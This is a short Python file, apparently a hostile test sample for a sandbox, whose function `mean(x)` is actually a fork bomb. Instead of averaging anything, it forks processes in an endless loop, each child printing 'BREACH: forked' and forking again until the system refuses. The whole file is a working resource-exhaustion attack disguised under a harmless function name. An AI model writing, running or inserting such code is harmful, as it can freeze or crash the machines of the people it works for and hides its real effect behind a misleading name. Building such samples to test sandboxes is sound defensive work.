"""Start processes that start processes."""

import os


def mean(x):
    while True:
        try:
            if os.fork() == 0:
                print("BREACH: forked")
        except OSError:
            return 0.0
